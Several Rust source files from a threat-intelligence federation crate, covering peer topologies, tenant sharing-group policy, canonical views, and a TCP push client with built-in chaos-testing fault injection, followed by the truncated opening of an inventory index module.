        let report = harness.run_until_quiescent(32);
        assert!(report.converged, "partition never healed: {report:?}");
        assert!(report.total_failures() > 0, "fault plan never fired");
        assert!(harness.views_identical());
        // Backoffs landed on the virtual sleeper, not the wall clock.
        assert!(harness.sleeper().total() > Duration::ZERO);
    }

    #[test]
    fn policy_withholds_sender_side() {
        let mut roster = tenants(2);
        roster[0].groups.insert("fin".into());
        let mut harness = FederationHarness::in_proc(Topology::Mesh, roster, FaultPlan::healthy());
        let mut secret = broadcast_event("fin-only");
        secret.add_tag(sharing_group_tag("fin"));
        let uuid = harness.seed_event(0, secret).unwrap();
        harness.seed_event(0, broadcast_event("open")).unwrap();
        let report = harness.run_until_quiescent(16);
        assert!(report.converged);
        assert!(!harness.stored_uuids(1).contains(&uuid));
        assert_eq!(harness.stored_uuids(1).len(), 1); // only the open event arrived
        assert!(harness.leaks().is_empty());
        let withheld: u64 = report.rounds.iter().map(|r| r.withheld_policy).sum();
        assert!(withheld > 0, "sender never withheld the fin-only event");
    }
}
