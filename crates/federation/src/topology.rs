//! Federation topologies: which peer pushes to which.
//!
//! Edges are *directed*: `(src, dst)` means `src` pushes its eligible
//! events to `dst` each round. The harness walks the edge list in a
//! fixed order every round, so a seeded [`cais_common::resilience::FaultPlan`]
//! over per-edge sites replays byte-identically.

use serde::{Deserialize, Serialize};

/// The wiring of an N-peer federation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Topology {
    /// Peer 0 is the hub: every spoke pushes to the hub and the hub
    /// pushes to every spoke. Two hops between spokes.
    HubSpoke,
    /// Every ordered pair of peers is an edge. One hop everywhere.
    Mesh,
    /// Peer `i` pushes to peer `(i + 1) % n` only. Up to `n - 1` hops.
    Ring,
}

impl Topology {
    /// All supported topologies, in display order.
    pub const ALL: [Topology; 3] = [Topology::HubSpoke, Topology::Mesh, Topology::Ring];

    /// A stable lowercase name (used in fault-site labels and logs).
    pub fn name(&self) -> &'static str {
        match self {
            Topology::HubSpoke => "hub-spoke",
            Topology::Mesh => "mesh",
            Topology::Ring => "ring",
        }
    }

    /// The directed edge list for `n` peers, in the fixed order the
    /// harness drives each round.
    pub fn edges(&self, n: usize) -> Vec<(usize, usize)> {
        let mut edges = Vec::new();
        if n < 2 {
            return edges;
        }
        match self {
            Topology::HubSpoke => {
                for spoke in 1..n {
                    edges.push((spoke, 0));
                }
                for spoke in 1..n {
                    edges.push((0, spoke));
                }
            }
            Topology::Mesh => {
                for src in 0..n {
                    for dst in 0..n {
                        if src != dst {
                            edges.push((src, dst));
                        }
                    }
                }
            }
            Topology::Ring => {
                for src in 0..n {
                    edges.push((src, (src + 1) % n));
                }
            }
        }
        edges
    }

    /// The maximum hop count between any two peers — the diameter that
    /// bounds how many healthy rounds full propagation needs.
    pub fn diameter(&self, n: usize) -> usize {
        match self {
            Topology::HubSpoke => 2.min(n.saturating_sub(1)),
            Topology::Mesh => 1.min(n.saturating_sub(1)),
            Topology::Ring => n.saturating_sub(1),
        }
    }
}

impl std::fmt::Display for Topology {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// The fault-injection site label for one directed edge — script
/// these in a [`cais_common::resilience::FaultPlan`] to break a
/// specific link.
pub fn edge_site(topology: Topology, src: usize, dst: usize) -> String {
    format!("fed.{}.push.{src}->{dst}", topology.name())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hub_spoke_edges() {
        let edges = Topology::HubSpoke.edges(4);
        assert_eq!(edges.len(), 6);
        assert!(edges.contains(&(1, 0)) && edges.contains(&(0, 1)));
        assert!(!edges.contains(&(1, 2))); // spokes never talk directly
    }

    #[test]
    fn mesh_edges_are_all_ordered_pairs() {
        let edges = Topology::Mesh.edges(4);
        assert_eq!(edges.len(), 12);
    }

    #[test]
    fn ring_edges_wrap() {
        let edges = Topology::Ring.edges(3);
        assert_eq!(edges, vec![(0, 1), (1, 2), (2, 0)]);
    }

    #[test]
    fn degenerate_sizes_have_no_edges() {
        for topology in Topology::ALL {
            assert!(topology.edges(0).is_empty());
            assert!(topology.edges(1).is_empty());
        }
    }

    #[test]
    fn site_labels_are_per_edge_and_topology() {
        assert_eq!(edge_site(Topology::Mesh, 2, 5), "fed.mesh.push.2->5");
        assert_ne!(
            edge_site(Topology::Mesh, 1, 2),
            edge_site(Topology::Ring, 1, 2)
        );
    }
}
