//! # cais-federation — N-instance sharing, proven convergent
//!
//! Federates N MISP instances ([`cais_misp::MispApi`]) into hub-spoke,
//! mesh or ring topologies with per-tenant sharing-group policy, over
//! real framed-TCP endpoints on the multiplexed serving core
//! ([`cais_common::serve`]).
//!
//! The crate's thesis: intelligence sharing across organizations is a
//! *join-semilattice sync*. Receivers insert unknown events and
//! otherwise union attributes/tags and take the distribution maximum —
//! a monotone, commutative, idempotent merge — so whatever the
//! topology, the fault schedule or the delivery order, every tenant's
//! policy-filtered view reaches the same fixpoint, byte for byte. The
//! [`harness`] module turns that claim into executable tests: seeded
//! chaos ([`cais_common::resilience::FaultPlan`] — partitions, replays,
//! lost acks, garbage frames) on virtual time, with convergence checked
//! by comparing canonical per-tenant views ([`view`]) across peers and
//! against fault-free oracle runs.
//!
//! Layer map:
//!
//! | module | role |
//! |---|---|
//! | [`policy`] | tenants, sharing groups, sender-side filtering |
//! | [`wire`] | push/status frames over the shared length-prefixed framing |
//! | [`peer`] | one instance as a [`cais_common::serve::FrameService`] |
//! | [`client`] | per-edge push client with transport-level fault injection |
//! | [`topology`] | hub-spoke / mesh / ring edge lists and fault sites |
//! | [`harness`] | the N-peer convergence harness on virtual time |
//! | [`view`] | canonical tenant views, generation-guarded byte cache |
//! | [`metrics`] | the `federation_*` counter/gauge family |
//!
//! # Example
//!
//! ```
//! use cais_federation::{FederationHarness, Tenant, Topology};
//! use cais_common::resilience::{FaultKind, FaultPlan};
//! use cais_misp::event::Distribution;
//! use cais_misp::MispEvent;
//!
//! // Three tenants, hub-spoke, with the spoke→hub link flapping.
//! let site = cais_federation::edge_site(Topology::HubSpoke, 1, 0);
//! let faults = FaultPlan::new(42).fail_first(&site, 2, FaultKind::AckLost);
//! let tenants = vec![
//!     Tenant::new("hub", ["fin"]),
//!     Tenant::new("spoke-a", ["fin"]),
//!     Tenant::new("spoke-b", ["fin"]),
//! ];
//! let mut harness = FederationHarness::in_proc(Topology::HubSpoke, tenants, faults);
//!
//! let mut event = MispEvent::new("campaign infra");
//! event.distribution = Distribution::AllCommunities;
//! harness.seed_event(1, event)?;
//!
//! let report = harness.run_until_quiescent(32);
//! assert!(report.converged);
//! assert!(harness.views_identical()); // same bytes on every peer
//! assert!(harness.leaks().is_empty()); // zero cross-tenant leaks
//! # Ok::<(), cais_misp::MispError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod client;
pub mod harness;
pub mod metrics;
pub mod peer;
pub mod policy;
pub mod topology;
pub mod view;
pub mod wire;

pub use client::{probe_status, FederationClient};
pub use harness::{ConvergenceReport, FederationHarness, RoundReport, Transport, ROUND_INTERVAL};
pub use metrics::FederationMetrics;
pub use peer::FederationPeer;
pub use policy::{sharing_group_tag, SharingPolicy, Tenant};
pub use topology::{edge_site, Topology};
pub use view::{assemble_view, TenantViewCache, ViewCacheStats};
pub use wire::{FedRequest, FedResponse};
