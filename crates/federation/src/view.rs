//! Canonical per-tenant views: the byte-comparable fixpoint.
//!
//! Two converged peers hold *semantically* identical intelligence but
//! *representationally* different stores: store ids follow insertion
//! order, `org` is stamped by each receiver, `timestamp` is refreshed
//! by merge updates, and `distribution` legitimately differs per peer
//! (hop decay is a property of the path, not the event). The canonical
//! view serializes exactly the path-independent content — published
//! events in UUID order, attributes and tags sorted — so "all peers
//! reached the identical policy-filtered fixpoint" becomes a byte
//! comparison.
//!
//! Views are assembled through a generation-guarded byte cache in the
//! style of the PR 5 share caches: the memo is keyed on
//! `(store generation, policy revision)` and replayed as a shared
//! `Arc<[u8]>` until either the store or the tenant registry moves.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use cais_common::Timestamp;
use cais_misp::event::{Analysis, MispEvent, ThreatLevel};
use cais_misp::{MispApi, MispAttribute};
use parking_lot::Mutex;
use serde::Serialize;

use crate::policy::SharingPolicy;

/// The path-independent serialization of one attribute.
///
/// Owned fields: the vendored serde derive does not support generic
/// (lifetime-parameterized) types.
#[derive(Serialize)]
struct CanonicalAttribute {
    uuid: String,
    attr_type: String,
    category: String,
    value: String,
    to_ids: bool,
    comment: String,
    tags: Vec<String>,
}

/// The path-independent serialization of one event. Excluded on
/// purpose: store `id` (insertion order), `org` (receiver-stamped),
/// `timestamp` (refreshed by merges), `distribution` (per-path decay).
#[derive(Serialize)]
struct CanonicalEvent {
    uuid: String,
    info: String,
    date: Timestamp,
    threat_level: ThreatLevel,
    analysis: Analysis,
    published: bool,
    attributes: Vec<CanonicalAttribute>,
    tags: Vec<String>,
}

fn canonical_attribute(attribute: &MispAttribute) -> CanonicalAttribute {
    let mut tags: Vec<String> = attribute.tags.iter().map(|t| t.name().to_owned()).collect();
    tags.sort_unstable();
    CanonicalAttribute {
        uuid: attribute.uuid.to_string(),
        attr_type: attribute.attr_type.clone(),
        category: format!("{:?}", attribute.category),
        value: attribute.value.clone(),
        to_ids: attribute.to_ids,
        comment: attribute.comment.clone(),
        tags,
    }
}

fn canonical_event(event: &MispEvent) -> CanonicalEvent {
    let mut attributes: Vec<&MispAttribute> = event.attributes.iter().collect();
    attributes.sort_unstable_by_key(|a| a.uuid);
    let mut tags: Vec<String> = event.tags.iter().map(|t| t.name().to_owned()).collect();
    tags.sort_unstable();
    CanonicalEvent {
        uuid: event.uuid.to_string(),
        info: event.info.clone(),
        date: event.date,
        threat_level: event.threat_level,
        analysis: event.analysis,
        published: event.published,
        attributes: attributes.into_iter().map(canonical_attribute).collect(),
        tags,
    }
}

/// Assembles the canonical view for `org` directly, uncached: the
/// published events the tenant may see, policy-filtered, in UUID
/// order.
pub fn assemble_view(api: &MispApi, org: &str, policy: &SharingPolicy) -> Vec<u8> {
    let snapshot = api.store().snapshot();
    let mut filtered: Vec<MispEvent> = snapshot
        .iter()
        .filter(|v| v.event.published)
        .filter_map(|v| policy.filter_for(org, &v.event))
        .collect();
    filtered.sort_unstable_by_key(|e| e.uuid);
    let canonical: Vec<CanonicalEvent> = filtered.iter().map(canonical_event).collect();
    serde_json::to_vec(&canonical).expect("canonical view serializes")
}

/// Cache replay statistics (PR 5 idiom).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ViewCacheStats {
    /// Views replayed from the memo.
    pub hits: u64,
    /// Views assembled fresh.
    pub misses: u64,
}

/// A generation-guarded byte cache of one tenant's canonical view.
#[derive(Debug, Default)]
pub struct TenantViewCache {
    memo: Mutex<Option<Memo>>,
    hits: AtomicU64,
    misses: AtomicU64,
}

#[derive(Debug)]
struct Memo {
    generation: u64,
    revision: u64,
    bytes: Arc<[u8]>,
}

impl TenantViewCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        TenantViewCache::default()
    }

    /// The canonical view bytes for `org` on `api` under `policy`,
    /// replayed from the memo while both the store generation and the
    /// policy revision are unchanged.
    pub fn view_bytes(&self, api: &MispApi, org: &str, policy: &SharingPolicy) -> Arc<[u8]> {
        let generation = api.store().generation();
        let revision = policy.revision();
        {
            let memo = self.memo.lock();
            if let Some(memo) = memo.as_ref() {
                if memo.generation == generation && memo.revision == revision {
                    self.hits.fetch_add(1, Ordering::Relaxed);
                    return Arc::clone(&memo.bytes);
                }
            }
        }
        self.misses.fetch_add(1, Ordering::Relaxed);
        let bytes: Arc<[u8]> = assemble_view(api, org, policy).into();
        *self.memo.lock() = Some(Memo {
            generation,
            revision,
            bytes: Arc::clone(&bytes),
        });
        bytes
    }

    /// Replay statistics.
    pub fn stats(&self) -> ViewCacheStats {
        ViewCacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::{sharing_group_tag, Tenant};
    use cais_misp::event::Distribution;
    use cais_misp::AttributeCategory;

    fn policy() -> SharingPolicy {
        let mut p = SharingPolicy::new();
        p.admit(Tenant::new("org-a", ["fin"]));
        p
    }

    fn published(api: &MispApi, info: &str) -> u64 {
        let mut event = MispEvent::new(info);
        event.distribution = Distribution::AllCommunities;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            format!("{info}.example"),
        ));
        let id = api.add_event(event).unwrap();
        api.publish_event(id).unwrap();
        id
    }

    #[test]
    fn view_ignores_receiver_stamped_fields() {
        // Two stores holding the same events with different orgs, ids
        // and distributions produce identical canonical bytes.
        let policy = policy();
        let a = MispApi::new("org-a");
        let b = MispApi::new("org-b");
        let mut event = MispEvent::new("shared");
        event.distribution = Distribution::AllCommunities;
        event.published = true;
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            "shared.example",
        ));
        let mut on_b = event.clone();
        on_b.distribution = Distribution::CommunityOnly; // one hop further
        a.add_event(event).unwrap();
        b.add_event(on_b).unwrap();
        assert_eq!(
            assemble_view(&a, "org-a", &policy),
            assemble_view(&b, "org-a", &policy),
        );
    }

    #[test]
    fn view_sorts_attributes_by_uuid() {
        // Same attributes in different arrival order: same bytes.
        let policy = policy();
        let a1 = MispAttribute::new("domain", AttributeCategory::NetworkActivity, "one.example");
        let a2 = MispAttribute::new("domain", AttributeCategory::NetworkActivity, "two.example");
        let mut event = MispEvent::new("ordered");
        event.distribution = Distribution::AllCommunities;
        event.published = true;
        let mut swapped = event.clone();
        event.add_attribute(a1.clone());
        event.add_attribute(a2.clone());
        swapped.add_attribute(a2);
        swapped.add_attribute(a1);
        let x = MispApi::new("org-a");
        let y = MispApi::new("org-a");
        x.add_event(event).unwrap();
        y.add_event(swapped).unwrap();
        assert_eq!(
            assemble_view(&x, "org-a", &policy),
            assemble_view(&y, "org-a", &policy),
        );
    }

    #[test]
    fn cache_replays_until_store_or_policy_moves() {
        let mut policy = policy();
        let api = MispApi::new("org-a");
        published(&api, "one");
        let cache = TenantViewCache::new();
        let first = cache.view_bytes(&api, "org-a", &policy);
        let second = cache.view_bytes(&api, "org-a", &policy);
        assert!(Arc::ptr_eq(&first, &second));
        assert_eq!(cache.stats().hits, 1);

        published(&api, "two");
        let third = cache.view_bytes(&api, "org-a", &policy);
        assert!(!Arc::ptr_eq(&first, &third));

        policy.admit(Tenant::new("org-b", ["gov"]));
        let fourth = cache.view_bytes(&api, "org-a", &policy);
        assert_eq!(cache.stats().misses, 3);
        // Same tenant rights: same bytes, fresh memo.
        assert_eq!(&*third, &*fourth);
    }

    #[test]
    fn view_is_policy_filtered() {
        let policy = policy();
        let api = MispApi::new("org-a");
        published(&api, "open");
        let mut tagged = MispEvent::new("gov-only");
        tagged.distribution = Distribution::AllCommunities;
        tagged.add_tag(sharing_group_tag("gov"));
        let id = api.add_event(tagged).unwrap();
        api.publish_event(id).unwrap();
        let bytes = assemble_view(&api, "org-a", &policy);
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("open"));
        assert!(!text.contains("gov-only"));
    }
}
