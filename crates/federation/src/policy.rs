//! Per-tenant identity and sharing-group policy.
//!
//! Every federation peer serves one [`Tenant`]: an organization plus
//! the set of sharing groups it belongs to. Events and attributes opt
//! into groups with `cais:sharing-group="<name>"` machine tags; an
//! item carrying no group tags is unrestricted. The [`SharingPolicy`]
//! decides, per receiving tenant, which events may leave a sender and
//! which attributes ride along — *composed with* (not replacing) the
//! MISP `Distribution` hop decay, which stays enforced by the sync
//! apply path.
//!
//! Enforcement is sender-side: a peer filters each outgoing batch for
//! its destination tenant, so bytes a tenant may not see never reach
//! its socket. Receivers re-check incoming items against their own
//! tenant as defense in depth (see `peer.rs`), so a compromised or
//! buggy sender still cannot plant out-of-policy intelligence.

use std::collections::{BTreeMap, BTreeSet};

use cais_misp::event::MispEvent;
use cais_misp::{MispAttribute, Tag};

/// The machine-tag namespace/predicate marking sharing-group
/// membership on events and attributes.
pub const SHARING_GROUP_NAMESPACE: &str = "cais";
/// See [`SHARING_GROUP_NAMESPACE`].
pub const SHARING_GROUP_PREDICATE: &str = "sharing-group";

/// Builds the machine tag placing an event or attribute in a sharing
/// group.
///
/// # Examples
///
/// ```
/// use cais_federation::policy::sharing_group_tag;
/// assert_eq!(sharing_group_tag("fin-sector").name(), "cais:sharing-group=\"fin-sector\"");
/// ```
pub fn sharing_group_tag(group: &str) -> Tag {
    Tag::machine(SHARING_GROUP_NAMESPACE, SHARING_GROUP_PREDICATE, group)
}

/// The sharing groups an item's tags place it in (empty = unrestricted).
fn groups_of(tags: &[Tag]) -> BTreeSet<String> {
    tags.iter()
        .filter(|t| {
            t.namespace() == Some(SHARING_GROUP_NAMESPACE)
                && t.predicate() == Some(SHARING_GROUP_PREDICATE)
        })
        .filter_map(|t| t.value().map(str::to_owned))
        .collect()
}

/// One federated organization's identity: its org name and the sharing
/// groups it belongs to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tenant {
    /// Organization name — also the peer's MISP org.
    pub org: String,
    /// Sharing groups the tenant is a member of.
    pub groups: BTreeSet<String>,
}

impl Tenant {
    /// Creates a tenant with the given group memberships.
    pub fn new<S: Into<String>>(
        org: impl Into<String>,
        groups: impl IntoIterator<Item = S>,
    ) -> Self {
        Tenant {
            org: org.into(),
            groups: groups.into_iter().map(Into::into).collect(),
        }
    }

    /// Whether this tenant may see an item restricted to `groups`
    /// (an empty restriction set is visible to everyone).
    fn may_see(&self, groups: &BTreeSet<String>) -> bool {
        groups.is_empty() || groups.iter().any(|g| self.groups.contains(g))
    }
}

/// The federation's tenant registry and visibility rules.
///
/// Carries a `revision` counter bumped on every membership change, so
/// byte caches keyed on `(store generation, policy revision)` — the
/// canonical tenant views in [`crate::view`] — invalidate when a
/// tenant is admitted or revoked mid-round.
///
/// # Examples
///
/// ```
/// use cais_federation::policy::{SharingPolicy, Tenant, sharing_group_tag};
/// use cais_misp::MispEvent;
///
/// let mut policy = SharingPolicy::new();
/// policy.admit(Tenant::new("org-a", ["fin"]));
/// policy.admit(Tenant::new("org-b", ["gov"]));
///
/// let mut event = MispEvent::new("fin-sector intel");
/// event.add_tag(sharing_group_tag("fin"));
/// assert!(policy.event_visible("org-a", &event));
/// assert!(!policy.event_visible("org-b", &event));
/// ```
#[derive(Debug, Clone, Default)]
pub struct SharingPolicy {
    tenants: BTreeMap<String, Tenant>,
    revision: u64,
}

impl SharingPolicy {
    /// An empty policy: no tenants, so nothing is deliverable.
    pub fn new() -> Self {
        SharingPolicy::default()
    }

    /// Admits (or replaces) a tenant.
    pub fn admit(&mut self, tenant: Tenant) {
        self.tenants.insert(tenant.org.clone(), tenant);
        self.revision += 1;
    }

    /// Revokes a tenant; from now on it is eligible to receive nothing.
    /// Returns whether it was present.
    pub fn revoke(&mut self, org: &str) -> bool {
        let removed = self.tenants.remove(org).is_some();
        if removed {
            self.revision += 1;
        }
        removed
    }

    /// The registered tenant for an org, if any.
    pub fn tenant(&self, org: &str) -> Option<&Tenant> {
        self.tenants.get(org)
    }

    /// Registered tenants in org order.
    pub fn tenants(&self) -> impl Iterator<Item = &Tenant> {
        self.tenants.values()
    }

    /// Membership-change counter, for policy-keyed caches.
    pub fn revision(&self) -> u64 {
        self.revision
    }

    /// Whether the tenant may see the event at all (event-level group
    /// tags; unknown tenants see nothing).
    pub fn event_visible(&self, org: &str, event: &MispEvent) -> bool {
        self.tenants
            .get(org)
            .is_some_and(|t| t.may_see(&groups_of(&event.tags)))
    }

    /// Whether the tenant may see one attribute of a visible event.
    pub fn attribute_visible(&self, org: &str, attribute: &MispAttribute) -> bool {
        self.tenants
            .get(org)
            .is_some_and(|t| t.may_see(&groups_of(&attribute.tags)))
    }

    /// The copy of `event` the tenant may receive: `None` when the
    /// event itself is out of policy (or the tenant is unknown),
    /// otherwise a clone keeping only the attributes the tenant may
    /// see — the partial-delivery path for events whose attributes
    /// split across sharing groups.
    pub fn filter_for(&self, org: &str, event: &MispEvent) -> Option<MispEvent> {
        let tenant = self.tenants.get(org)?;
        if !tenant.may_see(&groups_of(&event.tags)) {
            return None;
        }
        let mut copy = event.clone();
        copy.attributes
            .retain(|a| tenant.may_see(&groups_of(&a.tags)));
        Some(copy)
    }

    /// Whether a *stored* event on the tenant's own peer is within
    /// policy — the zero-leak assertion: every event and every
    /// attribute on a peer must be visible to that peer's tenant.
    pub fn within_policy(&self, org: &str, event: &MispEvent) -> bool {
        self.event_visible(org, event)
            && event
                .attributes
                .iter()
                .all(|a| self.attribute_visible(org, a))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_misp::AttributeCategory;

    fn tagged_event(event_groups: &[&str]) -> MispEvent {
        let mut event = MispEvent::new("intel");
        for group in event_groups {
            event.add_tag(sharing_group_tag(group));
        }
        event
    }

    fn attr(value: &str, groups: &[&str]) -> MispAttribute {
        let mut a = MispAttribute::new("domain", AttributeCategory::NetworkActivity, value);
        for group in groups {
            a.tags.push(sharing_group_tag(group));
        }
        a
    }

    fn two_tenant_policy() -> SharingPolicy {
        let mut policy = SharingPolicy::new();
        policy.admit(Tenant::new("org-a", ["fin"]));
        policy.admit(Tenant::new("org-b", ["gov"]));
        policy
    }

    #[test]
    fn untagged_items_are_unrestricted() {
        let policy = two_tenant_policy();
        let event = tagged_event(&[]);
        assert!(policy.event_visible("org-a", &event));
        assert!(policy.event_visible("org-b", &event));
    }

    #[test]
    fn group_tags_restrict_events() {
        let policy = two_tenant_policy();
        let event = tagged_event(&["fin"]);
        assert!(policy.event_visible("org-a", &event));
        assert!(!policy.event_visible("org-b", &event));
        // Multi-group events are visible to any member group.
        let both = tagged_event(&["fin", "gov"]);
        assert!(policy.event_visible("org-a", &both));
        assert!(policy.event_visible("org-b", &both));
    }

    #[test]
    fn unknown_tenants_see_nothing() {
        let policy = two_tenant_policy();
        let event = tagged_event(&[]);
        assert!(!policy.event_visible("org-z", &event));
        assert!(policy.filter_for("org-z", &event).is_none());
    }

    #[test]
    fn filter_splits_attributes_across_groups() {
        let policy = two_tenant_policy();
        let mut event = tagged_event(&[]);
        event.add_attribute(attr("fin.example", &["fin"]));
        event.add_attribute(attr("gov.example", &["gov"]));
        event.add_attribute(attr("open.example", &[]));

        let for_a = policy.filter_for("org-a", &event).unwrap();
        let values: Vec<_> = for_a.attributes.iter().map(|a| a.value.as_str()).collect();
        assert_eq!(values, ["fin.example", "open.example"]);

        let for_b = policy.filter_for("org-b", &event).unwrap();
        let values: Vec<_> = for_b.attributes.iter().map(|a| a.value.as_str()).collect();
        assert_eq!(values, ["gov.example", "open.example"]);
    }

    #[test]
    fn revocation_bumps_revision_and_blinds_the_tenant() {
        let mut policy = two_tenant_policy();
        let before = policy.revision();
        assert!(policy.revoke("org-b"));
        assert!(policy.revision() > before);
        assert!(!policy.revoke("org-b"));
        let event = tagged_event(&[]);
        assert!(!policy.event_visible("org-b", &event));
    }

    #[test]
    fn within_policy_checks_attributes_too() {
        let policy = two_tenant_policy();
        let mut event = tagged_event(&[]);
        event.add_attribute(attr("gov.example", &["gov"]));
        assert!(policy.event_visible("org-a", &event));
        assert!(!policy.within_policy("org-a", &event));
        assert!(policy.within_policy("org-b", &event));
    }
}
