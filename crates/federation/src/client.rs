//! The federation push client: one persistent framed-TCP connection
//! per directed edge, with seeded chaos injected *at the transport*.
//!
//! Unlike the in-proc fault shim in `cais_misp::sync`, the faults here
//! corrupt real bytes on a real socket: garbage frames reach the
//! server and get an error reply, truncated frames kill the connection
//! mid-write (the client transparently reconnects), replays put the
//! same frame on the wire twice, and lost acks discard a response the
//! server already acted on. The receiving peer's idempotent merge is
//! what keeps all of this from corrupting state.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use cais_common::frame::{read_frame_traced, write_frame_traced, TraceHeader};
use cais_common::resilience::FaultKind;
use cais_misp::event::MispEvent;

use crate::wire::{self, FedRequest, FedResponse};

/// Socket read/write timeout: a stalled peer fails the push (and rides
/// the retry ladder) instead of hanging the round.
const SOCKET_TIMEOUT: Duration = Duration::from_secs(10);

/// A connected (lazily, reconnecting) push client for one edge.
#[derive(Debug)]
pub struct FederationClient {
    addr: SocketAddr,
    from_org: String,
    stream: Option<TcpStream>,
}

impl FederationClient {
    /// Creates a client pushing as `from_org` to the peer at `addr`.
    /// The TCP connection is opened on first use and re-opened after
    /// transport faults.
    pub fn new(addr: SocketAddr, from_org: impl Into<String>) -> Self {
        FederationClient {
            addr,
            from_org: from_org.into(),
            stream: None,
        }
    }

    /// The destination address.
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    fn stream(&mut self) -> io::Result<&mut TcpStream> {
        if self.stream.is_none() {
            let stream = TcpStream::connect(self.addr)?;
            stream.set_read_timeout(Some(SOCKET_TIMEOUT))?;
            stream.set_write_timeout(Some(SOCKET_TIMEOUT))?;
            stream.set_nodelay(true)?;
            self.stream = Some(stream);
        }
        Ok(self.stream.as_mut().expect("stream just set"))
    }

    fn drop_connection(&mut self) {
        self.stream = None;
    }

    fn transact_bytes(
        &mut self,
        header: Option<TraceHeader>,
        payload: &[u8],
    ) -> io::Result<FedResponse> {
        let result = (|| {
            let stream = self.stream()?;
            write_frame_traced(stream, header, payload)?;
            let (_header, response) = read_frame_traced(stream)?;
            wire::decode_response(&response)
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
        })();
        if result.is_err() {
            // Any transport hiccup poisons the framing state; start
            // the next attempt on a fresh connection.
            self.drop_connection();
        }
        result
    }

    /// One request/response exchange with no fault injection.
    ///
    /// # Errors
    ///
    /// Returns transport errors; the connection is dropped (and will
    /// be re-opened) after any failure.
    pub fn request(
        &mut self,
        header: Option<TraceHeader>,
        request: &FedRequest,
    ) -> io::Result<FedResponse> {
        self.transact_bytes(header, &wire::encode_request(request))
    }

    /// Pushes one batch, optionally under an injected fault. Returns
    /// the peer's ack, or an error the caller's retry ladder absorbs.
    ///
    /// Fault semantics at the transport:
    ///
    /// * `Error` — the link is partitioned: nothing is sent.
    /// * `AckLost` — the frame is sent and served; the response is
    ///   read off the socket and discarded, and the caller sees an
    ///   error (so it retries a push the peer already applied).
    /// * `Replay` — the frame goes on the wire twice back-to-back;
    ///   both responses are read, the second is returned.
    /// * `Garbage` — the payload is replaced with undecodable bytes;
    ///   the peer answers [`FedResponse::Error`] without closing.
    /// * `Truncate` — the frame is cut mid-write and the connection
    ///   dropped; the peer sees a dead link, the caller reconnects.
    /// * `Delay` — the push succeeds after a virtual delay the caller
    ///   routes to its sleeper (handled by the harness, not here).
    ///
    /// # Errors
    ///
    /// Returns transport errors, injected failures, and
    /// [`FedResponse::Error`] replies (mapped to `InvalidData`).
    pub fn push_faulted(
        &mut self,
        fault: Option<FaultKind>,
        header: Option<TraceHeader>,
        events: Vec<MispEvent>,
    ) -> io::Result<FedResponse> {
        let request = FedRequest::Push {
            from_org: self.from_org.clone(),
            events,
        };
        let payload = wire::encode_request(&request);
        let response = match fault {
            None | Some(FaultKind::Delay(_)) => self.transact_bytes(header, &payload)?,
            Some(FaultKind::Error) => {
                return Err(io::Error::new(
                    io::ErrorKind::ConnectionReset,
                    "injected partition",
                ));
            }
            Some(FaultKind::AckLost) => {
                let _applied_but_unacked = self.transact_bytes(header, &payload)?;
                return Err(io::Error::new(io::ErrorKind::TimedOut, "injected ack loss"));
            }
            Some(FaultKind::Replay) => {
                self.transact_bytes(header, &payload)?;
                self.transact_bytes(header, &payload)?
            }
            Some(FaultKind::Garbage) => {
                let garbage = b"\x01\x02%%% injected garbage %%%\x03".to_vec();
                self.transact_bytes(header, &garbage)?
            }
            Some(FaultKind::Truncate) => {
                // Write a frame header promising more bytes than we
                // send, then kill the socket: the peer's read fails
                // mid-frame and the connection dies.
                let result = (|| -> io::Result<()> {
                    let stream = self.stream()?;
                    let promised = (payload.len().max(8)) as u32;
                    stream.write_all(&promised.to_be_bytes())?;
                    stream.write_all(&payload[..payload.len() / 2])?;
                    stream.flush()
                })();
                self.drop_connection();
                result?;
                return Err(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "injected truncation",
                ));
            }
        };
        match response {
            FedResponse::Error { message } => {
                Err(io::Error::new(io::ErrorKind::InvalidData, message))
            }
            ok => Ok(ok),
        }
    }
}

/// Blocking convenience probe used by tests and the dashboard demo:
/// one `Status` request on a throwaway connection.
///
/// # Errors
///
/// Returns transport errors.
pub fn probe_status(addr: SocketAddr) -> io::Result<FedResponse> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(SOCKET_TIMEOUT))?;
    write_frame_traced(
        &mut stream,
        None,
        &wire::encode_request(&FedRequest::Status),
    )?;
    let (_header, response) = read_frame_traced(&mut stream)?;
    wire::decode_response(&response).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
}
