//! Tokenized inverted index over the inventory's installed names.
//!
//! The paper's reduction step checks *every* eIoC against the full
//! infrastructure inventory (Section III-C1). The reference matcher in
//! [`Inventory::match_application_linear`] does that as a nodes ×
//! installed-names scan with per-call lowercasing and O(w²) word-subset
//! checks; at production inventory sizes that scan dominates the
//! enrich→reduce hot path. This module precomputes the scan once:
//!
//! * every installed application/OS name is normalized (trimmed,
//!   lowercased) and tokenized on whitespace,
//! * tokens are interned to dense ids, and each *distinct token set*
//!   becomes one [`NameEntry`] carrying a [`NodeBitset`] of the nodes
//!   that installed a name with exactly those tokens,
//! * an inverted index `token id → name-entry ids` turns a candidate
//!   lookup into a few hash probes plus bitset unions.
//!
//! The word-subset semantics are preserved exactly: a candidate with
